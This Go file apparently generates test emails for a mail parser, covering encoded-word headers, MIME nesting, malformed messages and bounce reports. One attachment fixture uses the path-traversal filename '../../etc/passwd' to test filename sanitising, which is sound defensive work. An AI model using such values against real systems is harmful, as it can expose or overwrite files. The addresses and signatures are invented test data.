package main

import "strings"

func encodedWords() {
	add("ew_split_multibyte", `From: Loja <contato@exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: =?UTF-8?B?Q29uZmlybWHDp8Oj?= =?UTF-8?B?byBkZSBwZWRpZG8gw6A=?=
 =?UTF-8?Q?_vista?=
Date: Mon, 1 Jul 2024 09:00:00 -0300
Message-ID: <ew-split-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Encoded words split in the middle of a word must be joined.
`)
	add("ew_malformed_spaces", `From: =?utf-8?Q?Jos=C3=A9 Carlos?= <jose.carlos@exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: =?utf-8?Q?Ol=C3=A1 mundo, pre=C3=A7o errado?=
Date: Mon, 1 Jul 2024 09:05:00 -0300
Message-ID: <ew-spaces-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Encoded words with raw spaces inside (broken mailer).
`)
	add("ew_unknown_charset", `From: Teste <teste@exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: =?x-bogus-charset?Q?abc?= and =?utf-8?Q?ok_=C3=A9?=
Date: Mon, 1 Jul 2024 09:10:00 -0300
Message-ID: <ew-unknown-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Unknown charset in an encoded word.
`)
	add("ew_mixed_charsets", `From: `+qword("iso-8859-1", enc(latin1, "Luísa Araújo"))+` <luisa.araujo@exemplo.com.br>
To: `+bword("windows-1252", enc(cp1252, "Suporte “VIP”"))+` <suporte@lojaexemplo.com.br>,
 "Ana" <ana@lojaexemplo.com.br>
Cc: `+utf8Q("Gerência")+` <gerencia@lojaexemplo.com.br>
Subject: `+qword("iso-8859-1", enc(latin1, "Renovação "))+` `+bword("utf-8", "do contrato ✓")+`
Date: Mon, 1 Jul 2024 09:15:00 -0300
Message-ID: <ew-mixed-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Different charsets in each header.
`)
	add("ew_glued_and_lowercase", `From: teste@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: Re:=?utf-8?q?Reembolso_n=C3=A3o?=recebido
Date: Mon, 1 Jul 2024 09:20:00 -0300
Message-ID: <ew-glued-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Encoded word glued to text, lower-case q.
`)
	add("ew_in_quoted_name", `From: "=?utf-8?Q?Jo=C3=A3o_Vit=C3=B3r?=" <joao.vitor@exemplo.com.br>
To: "=?ISO-8859-1?Q?S=E3o_Paulo_Filial?=" <filial.sp@lojaexemplo.com.br>
Subject: Encoded word inside quotes
Date: Mon, 1 Jul 2024 09:25:00 -0300
Message-ID: <ew-quoted-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Display names with encoded words in quotes.
`)
	add("ew_bad_base64", `From: teste@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: =?utf-8?B?@@@not*base64?= tail
Date: Mon, 1 Jul 2024 09:30:00 -0300
Message-ID: <ew-badb64-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Broken base64 encoded word.
`)
	add("header_8bit_raw_utf8", `From: Conceição Araújo <conceicao@exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: Devolução — pedido 8812
Date: Mon, 1 Jul 2024 09:35:00 -0300
Message-ID: <raw-utf8-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Cabeçalhos em UTF-8 cru (RFC 6532).
`)
	add("rfc2231_continuation", `From: Carlos <carlos@exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: Contrato longo
Date: Tue, 2 Jul 2024 10:00:00 -0300
Message-ID: <rfc2231-cont-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8

Anexo com nome longo.
--b1
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*0*=UTF-8''Contrato%20de%20presta%C3%A7%C3%A3o%20de%20;
 filename*1*=servi%C3%A7os%20%E2%80%93%20;
 filename*2="versao final.pdf"
Content-Transfer-Encoding: base64

`+b64(tinyPDF)+`--b1--
`)
	add("rfc2231_latin1", `From: Carlos <carlos@exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: Planilha
Date: Tue, 2 Jul 2024 10:05:00 -0300
Message-ID: <rfc2231-latin1-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b2"

--b2
Content-Type: text/plain; charset=utf-8

Planilha em anexo.
--b2
Content-Type: application/vnd.ms-excel
Content-Disposition: attachment; filename*=iso-8859-1'pt-br'Pre%E7os%20m%E9dios.xls
Content-Transfer-Encoding: base64

`+b64("fake xls bytes")+`--b2--
`)
	add("filename_encoded_word", `From: Roberto Dias <roberto.dias@construtora-exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: Documento
Date: Tue, 2 Jul 2024 10:10:00 -0300
Message-ID: <fn-ew-01@construtora-exemplo.com.br>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b3"

--b3
Content-Type: text/plain; charset=utf-8

Segue.
--b3
Content-Type: application/pdf; name="=?utf-8?B?T3LDp2FtZW50byBuwrogMTIucGRm?="
Content-Disposition: attachment; filename="=?utf-8?B?T3LDp2FtZW50byBuwrogMTIucGRm?="
Content-Transfer-Encoding: base64

`+b64(tinyPDF)+`--b3
Content-Type: text/plain; name="../../etc/passwd"
Content-Disposition: attachment; filename="../../etc/passwd"

not really
--b3--
`)
}

func structure() {
	add("nested_multipart", `From: Ana Lima <ana.lima.teste@gmail.com>
To: suporte@lojaexemplo.com.br
Subject: Estrutura aninhada
Date: Wed, 3 Jul 2024 10:00:00 -0300
Message-ID: <nested-01@gmail.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

Texto principal.
--alt
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: text/html; charset=utf-8

<p>Texto <b>principal</b>.</p><img src="cid:logo@exemplo">
--rel
Content-Type: image/png
Content-ID: <logo@exemplo>
Content-Transfer-Encoding: base64

`+b64(tinyPNG)+`--rel--
--alt--
--outer
Content-Type: multipart/mixed; boundary="inner"

--inner
Content-Type: application/pdf; name="a.pdf"
Content-Transfer-Encoding: base64

`+b64(tinyPDF)+`--inner
Content-Type: text/csv; name="dados.csv"
Content-Disposition: attachment; filename="dados.csv"

id;nome
1;Ana
--inner--
--outer--
`)
	add("message_rfc822_forward", `From: Carlos Pereira <carlos.pereira.teste@gmail.com>
To: suporte@lojaexemplo.com.br
Subject: Fwd: mensagem original
Date: Wed, 3 Jul 2024 11:00:00 -0300
Message-ID: <rfc822-fwd-01@gmail.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="fwd"

--fwd
Content-Type: text/plain; charset=utf-8

Veja a mensagem abaixo em anexo.
--fwd
Content-Type: message/rfc822
Content-Disposition: attachment

From: Banco Exemplo <nao-responda@banco-exemplo.com.br>
To: carlos.pereira.teste@gmail.com
Subject: =?utf-8?Q?Comprovante_de_transfer=C3=AAncia?=
Date: Wed, 3 Jul 2024 09:00:00 -0300
Message-ID: <comprovante-998877@banco-exemplo.com.br>
Content-Type: text/plain; charset=utf-8

Transferência de R$ 100,00 realizada.
--fwd--
`)
	add("multipart_digest", `From: lista@exemplo.org
To: suporte@lojaexemplo.com.br
Subject: Digest da lista, vol 12
Date: Wed, 3 Jul 2024 12:00:00 -0300
Message-ID: <digest-12@exemplo.org>
MIME-Version: 1.0
List-Id: Lista de Testes <testes.exemplo.org>
Content-Type: multipart/mixed; boundary="dig-outer"

--dig-outer
Content-Type: text/plain

Mensagens de hoje:
--dig-outer
Content-Type: multipart/digest; boundary="dig"

--dig

From: a@exemplo.org
Subject: Primeira
Message-ID: <d1@exemplo.org>

corpo 1
--dig

From: b@exemplo.org
Subject: Segunda
Message-ID: <d2@exemplo.org>

corpo 2
--dig--
--dig-outer--
`)
	add("uuencode_body", `From: old.client@exemplo.net
To: suporte@lojaexemplo.com.br
Subject: arquivo uuencode
Date: Wed, 3 Jul 2024 13:00:00 -0300
Message-ID: <uuencode-01@exemplo.net>

Segue o arquivo no formato antigo.

`+uuencode("ola.txt", "Olá, mundo!\nSegunda linha do arquivo.\n")+`
Fim da mensagem.
`)
	add("missing_final_boundary", `From: Ana Lima <ana.lima.teste@gmail.com>
To: suporte@lojaexemplo.com.br
Subject: Sem boundary final
Date: Wed, 3 Jul 2024 14:00:00 -0300
Message-ID: <nofinal-01@gmail.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="cut"

--cut
Content-Type: text/plain; charset=utf-8

Texto antes do anexo.
--cut
Content-Type: application/pdf; name="truncado.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJcfsj6IKNSAwIG9iago8PC9MZW5ndGggNiAwIFI+PgpzdHJlYW0K
`)
	add("missing_boundary_param", `From: Ana Lima <ana.lima.teste@gmail.com>
To: suporte@lojaexemplo.com.br
Subject: Sem parametro boundary
Date: Wed, 3 Jul 2024 14:05:00 -0300
Message-ID: <noboundary-01@gmail.com>
MIME-Version: 1.0
Content-Type: multipart/alternative

--xyz123
Content-Type: text/plain; charset=utf-8

Texto com boundary descoberto.
--xyz123
Content-Type: text/html; charset=utf-8

<p>Texto com boundary descoberto.</p>
--xyz123--
`)
	add("wrong_boundary", `From: Ana Lima <ana.lima.teste@gmail.com>
To: suporte@lojaexemplo.com.br
Subject: Boundary errado
Date: Wed, 3 Jul 2024 14:10:00 -0300
Message-ID: <wrongboundary-01@gmail.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="declared"

--different
Content-Type: text/plain

O boundary declarado nunca aparece.
--different--
`)
	addRaw("bare_lf", strings.Join([]string{
		"From: Unix Box <root@servidor-exemplo.com.br>",
		"To: suporte@lojaexemplo.com.br",
		"Subject: bare LF line endings",
		"Date: Wed, 3 Jul 2024 15:00:00 -0300",
		"Message-ID: <bare-lf-01@servidor-exemplo.com.br>",
		"MIME-Version: 1.0",
		"Content-Type: multipart/mixed; boundary=\"lf\"",
		"",
		"--lf",
		"Content-Type: text/plain; charset=utf-8",
		"",
		"Linhas terminadas só com LF.",
		"--lf",
		"Content-Type: text/plain; name=\"log.txt\"",
		"Content-Disposition: attachment; filename=\"log.txt\"",
		"",
		"linha 1",
		"linha 2",
		"--lf--",
		"",
	}, "\n"))
	add("no_message_id", `From: sem.id@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: Sem Message-ID
Date: Wed, 3 Jul 2024 15:05:00 -0300

Mensagem sem Message-ID.
`)
	add("empty_message_id", `From: sem.id@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: Message-ID vazio
Date: Wed, 3 Jul 2024 15:10:00 -0300
Message-ID:    
In-Reply-To:

Message-ID em branco.
`)
	add("garbage_ids", `From: lixo@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: Re: ids estranhos
Date: Wed, 3 Jul 2024 15:15 -0300 (BRT)
Message-ID: 12345.abc@exemplo.com.br (sem colchetes)
In-Reply-To: Your message of "Tue, 2 Jul 2024 10:00:00 -0300" <ticket-42.99@lojaexemplo.com.br>
References: first-id@host.example second-id@host.example
 <third@host.example>

Ids sem colchetes e com texto em volta.
`)
	add("html_only", `From: Loja Parceira <contato@parceira-exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: Apenas HTML
Date: Wed, 3 Jul 2024 15:20:00 -0300
Message-ID: <html-only-01@parceira-exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body><h1>Atualização</h1><p>O pedido <b>7781</b> foi enviado.</p><ul><li>Item A</li><li>Item B</li></ul><p>Dúvidas? <a href="https://parceira-exemplo.com.br/ajuda">Central de ajuda</a></p></body></html>
`)
	add("minimal_no_mime", `From: minimal@exemplo.com.br
Subject: minimal

Just a body, no MIME headers, no Date, no To.
`)
	add("no_blank_line", `From: quebrado@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: sem linha em branco
Message-ID: <noblank-01@exemplo.com.br>
Este texto começa sem linha em branco depois do cabeçalho.
Segunda linha.
`)
	add("base64_damaged", `From: Ana Lima <ana.lima.teste@gmail.com>
To: suporte@lojaexemplo.com.br
Subject: base64 com lixo
Date: Wed, 3 Jul 2024 15:30:00 -0300
Message-ID: <b64-damaged-01@gmail.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

T2zDoSwg*ZXN0ZSB0ZXh0byB0ZW0g
bGl4byBubyBtZWlvIGRv!IGJhc2U2NC4=
Isso aqui não é base64
`)
	add("zip_gzip_attachments", `From: Ana Lima <ana.lima.teste@gmail.com>
To: suporte@lojaexemplo.com.br
Subject: Logs compactados
Date: Wed, 3 Jul 2024 15:35:00 -0300
Message-ID: <zip-gzip-01@gmail.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="zz"

--zz
Content-Type: text/plain; charset=utf-8

Logs em anexo.
--zz
Content-Type: application/zip; name="logs.zip"
Content-Disposition: attachment; filename="logs.zip"
Content-Transfer-Encoding: base64

`+b64(zipOf("app.log", strings.Repeat("ERROR timeout\n", 50)))+`--zz
Content-Type: application/gzip; name="dump.sql.gz"
Content-Disposition: attachment; filename="dump.sql.gz"
Content-Transfer-Encoding: base64

`+b64(gzipOf(strings.Repeat("INSERT INTO t VALUES (1);\n", 40)))+`--zz--
`)
	add("calendar_invite", `From: Emily Carter <emily.carter@fabrikam-example.com>
To: help@contoso-example.com
Subject: Invitation: Onboarding call
Date: Thu, 4 Jul 2024 09:00:00 +0000
Message-ID: <invite-01@fabrikam-example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="cal"

--cal
Content-Type: multipart/alternative; boundary="calalt"

--calalt
Content-Type: text/plain; charset=utf-8

You have been invited to: Onboarding call, Fri 5 Jul 2024 14:00 UTC.
--calalt
Content-Type: text/calendar; charset=utf-8; method=REQUEST

BEGIN:VCALENDAR
METHOD:REQUEST
BEGIN:VEVENT
UID:onboarding-01@fabrikam-example.com
DTSTART:20240705T140000Z
SUMMARY:Onboarding call
END:VEVENT
END:VCALENDAR
--calalt--
--cal
Content-Type: application/ics; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"

BEGIN:VCALENDAR
END:VCALENDAR
--cal--
`)
	add("smime_signed", `From: Roberto Dias <roberto.dias@construtora-exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: Mensagem assinada
Date: Thu, 4 Jul 2024 10:00:00 -0300
Message-ID: <smime-01@construtora-exemplo.com.br>
MIME-Version: 1.0
Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="sig"

This is a cryptographically signed message in MIME format.

--sig
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

Mensagem assinada digitalmente.
--sig
Content-Type: application/pkcs7-signature; name="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7s"

MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEAAA==
--sig--
`)
	add("pgp_signed", `From: Tom Becker <tom.becker.test@gmail.com>
To: help@contoso-example.com
Subject: Signed with PGP
Date: Thu, 4 Jul 2024 10:05:00 +0100
Message-ID: <pgp-01@gmail.com>
MIME-Version: 1.0
Content-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; boundary="pgpsig"

--pgpsig
Content-Type: text/plain; charset=utf-8

Please verify my key.
--pgpsig
Content-Type: application/pgp-signature; name="signature.asc"
Content-Description: OpenPGP digital signature

-----BEGIN PGP SIGNATURE-----

iQEzBAEBCAAdFiEEfakefakefakefakefakefakefakefakeFAmZ=
=abcd
-----END PGP SIGNATURE-----
--pgpsig--
`)
	add("unknown_transfer_encoding", `From: teste@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: encoding desconhecido
Date: Thu, 4 Jul 2024 10:10:00 -0300
Message-ID: <unknown-cte-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: x-rot13

Texto com encoding desconhecido mantido como está.
`)
	add("duplicate_params_ct", `From: teste@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: parametros duplicados
Date: Thu, 4 Jul 2024 10:15:00 -0300
Message-ID: <dup-params-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"; format=flowed; charset=iso-8859-1

Parâmetro charset duplicado: vale o primeiro.
`)
	add("many_recipients_group", `From: Diretoria <diretoria@exemplo.com.br>
To: undisclosed-recipients:;
Cc: Equipe: ana@exemplo.com.br, "Silva, Bruno" <bruno@exemplo.com.br>;, carla@exemplo.com.br
Bcc: oculto@exemplo.com.br
Reply-To: respostas@exemplo.com.br
Subject: Grupos e vírgulas em nomes
Date: Thu, 4 Jul 2024 10:20:00 -0300
Message-ID: <groups-01@exemplo.com.br>
Content-Type: text/plain; charset=utf-8

Destinatários em grupo.
`)
	add("broken_addresses", `From: Loja <Vendas> <vendas@exemplo.com.br>
To: Fulano de Tal fulano@exemplo.com.br, <<duplo@exemplo.com.br>>, naoeumemail
Cc: "unterminated <cc@exemplo.com.br>
Subject: enderecos quebrados
Date: Thu, 4 Jul 2024 10:25:00 -0300
Message-ID: <broken-addr-01@exemplo.com.br>
Content-Type: text/plain

Endereços malformados.
`)
	add("bad_date", `From: teste@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: data estranha
Date: quarta, 3 de julho de 2024
Message-ID: <bad-date-01@exemplo.com.br>

Data em português não é parseável.
`)
	add("mbox_from_line", `From MAILER-DAEMON Thu Jul  4 10:30:00 2024
Return-Path: <teste@exemplo.com.br>
From: teste@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: exportado de mbox
Date: Thu, 4 Jul 2024 10:30:00 -0300
Message-ID: <mbox-01@exemplo.com.br>
Delivered-To: Suporte@LojaExemplo.com.br
X-Original-To: atendimento@lojaexemplo.com.br

Primeira linha "From " de mbox deve ser ignorada.
`)
	add("invalid_content_type", `From: teste@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: content-type invalido
Date: Thu, 4 Jul 2024 10:40:00 -0300
Message-ID: <invalid-ct-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text; charset=utf-8

Content-Type sem subtipo vale como text/plain.
`)
	add("qp_soft_breaks_broken", `From: teste@exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: QP quebrado
Date: Thu, 4 Jul 2024 10:35:00 -0300
Message-ID: <qp-broken-01@exemplo.com.br>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Sinal de igual solto = aqui e =ZZ inv=C3=A1lido, pre=
=C3=A7o =3D R$ 10.
`)
}

func dsns() {
	add("dsn_postfix", `Return-Path: <>
Delivered-To: suporte@lojaexemplo.com.br
Received: by mx.lojaexemplo.com.br (Postfix) id 4V1abc2XyZz; Fri, 5 Jul 2024 10:00:05 -0300 (BRT)
Date: Fri, 5 Jul 2024 10:00:05 -0300 (BRT)
From: MAILER-DAEMON@mx.lojaexemplo.com.br (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: suporte@lojaexemplo.com.br
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="4V1abc2XyZz.1720184405/mx.lojaexemplo.com.br"
Content-Transfer-Encoding: 8bit
Message-Id: <20240705130005.4V1abc2XyZz@mx.lojaexemplo.com.br>

This is a MIME-encapsulated message.

--4V1abc2XyZz.1720184405/mx.lojaexemplo.com.br
Content-Description: Notification
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

This is the mail system at host mx.lojaexemplo.com.br.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

                   The mail system

<cliente.inexistente@exemplo.com.br>: host mx.exemplo.com.br[203.0.113.10]
    said: 550 5.1.1 <cliente.inexistente@exemplo.com.br>: Recipient address
    rejected: User unknown in virtual mailbox table (in reply to RCPT TO
    command)

--4V1abc2XyZz.1720184405/mx.lojaexemplo.com.br
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.lojaexemplo.com.br
X-Postfix-Queue-ID: 4V1abc2XyZz
X-Postfix-Sender: rfc822; suporte@lojaexemplo.com.br
Arrival-Date: Fri,  5 Jul 2024 10:00:03 -0300 (BRT)

Final-Recipient: rfc822; cliente.inexistente@exemplo.com.br
Original-Recipient: rfc822;cliente.inexistente@exemplo.com.br
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.exemplo.com.br
Diagnostic-Code: smtp; 550 5.1.1 <cliente.inexistente@exemplo.com.br>:
    Recipient address rejected: User unknown in virtual mailbox table

--4V1abc2XyZz.1720184405/mx.lojaexemplo.com.br
Content-Description: Undelivered Message
Content-Type: message/rfc822
Content-Transfer-Encoding: 8bit

Return-Path: <suporte@lojaexemplo.com.br>
From: Loja Exemplo <suporte@lojaexemplo.com.br>
To: cliente.inexistente@exemplo.com.br
Subject: [#6001] Seu pedido foi enviado
Date: Fri, 5 Jul 2024 10:00:00 -0300
Message-ID: <atende.6001.1720184400@lojaexemplo.com.br>
Content-Type: text/plain; charset=utf-8

Seu pedido foi enviado.

--4V1abc2XyZz.1720184405/mx.lojaexemplo.com.br--
`)
	add("dsn_exchange", `From: Microsoft Outlook <postmaster@fabrikam-example.com>
To: <help@contoso-example.com>
Date: Fri, 5 Jul 2024 13:20:11 +0000
Content-Type: multipart/report; report-type=delivery-status;
	boundary="fdd3a0ae-8a4d-4f2f-8e2d-0a1b2c3d4e5f"
X-MS-Exchange-Message-Is-Ndr:
Content-Language: en-US
Message-ID: <f1e2d3c4-b5a6-9788-1234-56789abcdef0@SN6PR08MB1234.namprd08.prod.outlook.com>
In-Reply-To: <20240705131500.help.7001@contoso-example.com>
References: <20240705131500.help.7001@contoso-example.com>
Subject: Undeliverable: Your ticket #7001
Auto-Submitted: auto-replied
MIME-Version: 1.0

--fdd3a0ae-8a4d-4f2f-8e2d-0a1b2c3d4e5f
Content-Type: multipart/alternative; differences=Content-Type;
	boundary="a4b5c6d7-e8f9-4a0b-9c1d-2e3f4a5b6c7d"

--a4b5c6d7-e8f9-4a0b-9c1d-2e3f4a5b6c7d
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Your message to old.user@fabrikam-example.com couldn't be delivered.
old.user wasn't found at fabrikam-example.com.

Remote Server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipien=
t not found by SMTP address lookup'

--a4b5c6d7-e8f9-4a0b-9c1d-2e3f4a5b6c7d
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html><head><style>body{font-family:Segoe UI}</style></head><body><p>Your m=
essage to <a href=3D"mailto:old.user@fabrikam-example.com">old.user@fabrikam-=
example.com</a> couldn't be delivered.</p><p><b>old.user</b> wasn't found at=
 fabrikam-example.com.</p></body></html>

--a4b5c6d7-e8f9-4a0b-9c1d-2e3f4a5b6c7d--

--fdd3a0ae-8a4d-4f2f-8e2d-0a1b2c3d4e5f
Content-Type: message/delivery-status

Reporting-MTA: dns;SN6PR08MB1234.namprd08.prod.outlook.com
Received-From-MTA: dns;mail.contoso-example.com
Arrival-Date: Fri, 5 Jul 2024 13:20:10 +0000

Final-Recipient: rfc822;old.user@fabrikam-example.com
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup

--fdd3a0ae-8a4d-4f2f-8e2d-0a1b2c3d4e5f
Content-Type: text/rfc822-headers

Return-Path: help@contoso-example.com
From: Contoso Help <help@contoso-example.com>
To: <old.user@fabrikam-example.com>
Subject: Your ticket #7001
Date: Fri, 5 Jul 2024 13:15:00 +0000
Message-ID: <20240705131500.help.7001@contoso-example.com>
MIME-Version: 1.0

--fdd3a0ae-8a4d-4f2f-8e2d-0a1b2c3d4e5f--
`)
	add("dsn_gmail", `Delivered-To: suporte@lojaexemplo.com.br
Return-Path: <>
From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>
To: suporte@lojaexemplo.com.br
Auto-Submitted: auto-replied
Subject: Delivery Status Notification (Failure)
References: <atende.6100.1720200000@lojaexemplo.com.br>
In-Reply-To: <atende.6100.1720200000@lojaexemplo.com.br>
X-Failed-Recipients: naoexiste.12345@gmail.com
Message-ID: <66882c1a.050a0220.dsn.1234@mx.google.com>
Date: Fri, 05 Jul 2024 10:30:02 -0700 (PDT)
MIME-Version: 1.0
Content-Type: multipart/report; boundary="000000000000aa11bb22061c3d4e5f"; report-type=delivery-status

--000000000000aa11bb22061c3d4e5f
Content-Type: multipart/related; boundary="000000000000aa33bb44061c3d4e60"

--000000000000aa33bb44061c3d4e60
Content-Type: multipart/alternative; boundary="000000000000aa55bb66061c3d4e61"

--000000000000aa55bb66061c3d4e61
Content-Type: text/plain; charset="UTF-8"


** Address not found **

Your message wasn't delivered to naoexiste.12345@gmail.com because the address couldn't be found, or is unable to receive mail.

The response from the remote server was:
550 5.1.1 The email account that you tried to reach does not exist.

--000000000000aa55bb66061c3d4e61
Content-Type: text/html; charset="UTF-8"

<html><head><style>* { font-family:Roboto, "Helvetica Neue", Helvetica, Arial, sans-serif; }</style></head><body><table cellpadding="0" cellspacing="0"><tr><td><img src="cid:icon.png" width="48"><h2>Address not found</h2><p>Your message wasn't delivered to <a style="color:#212121;text-decoration:none"><b>naoexiste.12345@gmail.com</b></a> because the address couldn't be found.</p></td></tr></table></body></html>

--000000000000aa55bb66061c3d4e61--
--000000000000aa33bb44061c3d4e60
Content-Type: image/png; name="icon.png"
Content-Disposition: attachment; filename="icon.png"
Content-Transfer-Encoding: base64
Content-ID: <icon.png>

`+b64(tinyPNG)+`--000000000000aa33bb44061c3d4e60--
--000000000000aa11bb22061c3d4e5f
Content-Type: message/delivery-status

Reporting-MTA: dns; googlemail.com
Received-From-MTA: dns; mx.lojaexemplo.com.br
Arrival-Date: Fri, 05 Jul 2024 10:30:01 -0700 (PDT)
X-Original-Message-ID: <atende.6100.1720200000@lojaexemplo.com.br>

Final-Recipient: rfc822; naoexiste.12345@gmail.com
Action: failed
Status: 5.1.1
Remote-MTA: dns; gmail-smtp-in.l.google.com. (2607:f8b0:4004:c1b::1a, the server for the domain gmail.com.)
Diagnostic-Code: smtp; 550-5.1.1 The email account that you tried to reach does not exist.
Last-Attempt-Date: Fri, 05 Jul 2024 10:30:02 -0700 (PDT)

--000000000000aa11bb22061c3d4e5f
Content-Type: message/rfc822

From: Loja Exemplo <suporte@lojaexemplo.com.br>
To: naoexiste.12345@gmail.com
Subject: [#6100] Confirmação de cadastro
Date: Fri, 5 Jul 2024 14:30:00 -0300
Message-ID: <atende.6100.1720200000@lojaexemplo.com.br>
Content-Type: text/plain; charset=utf-8

Cadastro confirmado.

--000000000000aa11bb22061c3d4e5f--
`)
	add("dsn_delayed", `Return-Path: <>
From: MAILER-DAEMON@mx.lojaexemplo.com.br (Mail Delivery System)
Subject: Delayed Mail (still being retried)
To: suporte@lojaexemplo.com.br
Date: Sat, 6 Jul 2024 10:00:00 -0300
Message-Id: <20240706130000.DEL@mx.lojaexemplo.com.br>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="del"

--del
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.lojaexemplo.com.br.

####################################################################
# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #
####################################################################

<lento@servidor-lento.example>: connect to servidor-lento.example[198.51.100.7]:25: Connection timed out

--del
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.lojaexemplo.com.br

Final-Recipient: rfc822; lento@servidor-lento.example
Action: delayed
Status: 4.4.1
Will-Retry-Until: Tue, 9 Jul 2024 10:00:00 -0300 (BRT)

--del
Content-Type: text/rfc822-headers

From: Loja Exemplo <suporte@lojaexemplo.com.br>
To: lento@servidor-lento.example
Subject: [#6200] Aviso
Message-ID: <atende.6200.1720270000@lojaexemplo.com.br>

--del--
`)
	add("dsn_success", `Return-Path: <>
From: MAILER-DAEMON@mx.lojaexemplo.com.br (Mail Delivery System)
Subject: Successful Mail Delivery Report
To: suporte@lojaexemplo.com.br
Date: Sat, 6 Jul 2024 11:00:00 -0300
Message-Id: <20240706140000.OK@mx.lojaexemplo.com.br>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="ok"

--ok
Content-Type: text/plain; charset=us-ascii

Your message was successfully delivered to the destination(s) listed below.

<cliente@exemplo.com.br>: delivery via mx.exemplo.com.br: 250 2.0.0 Ok

--ok
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.lojaexemplo.com.br

Final-Recipient: rfc822; cliente@exemplo.com.br
Action: relayed
Status: 2.0.0

--ok--
`)
	add("bounce_qmail_plain", `Return-Path: <>
From: MAILER-DAEMON@mail.hospedagem-exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: failure notice
Date: Sat, 6 Jul 2024 12:00:00 -0300
Message-ID: <20240706150000.qmail.123@mail.hospedagem-exemplo.com.br>

Hi. This is the qmail-send program at mail.hospedagem-exemplo.com.br.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<antigo.cliente@hospedagem-exemplo.com.br>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

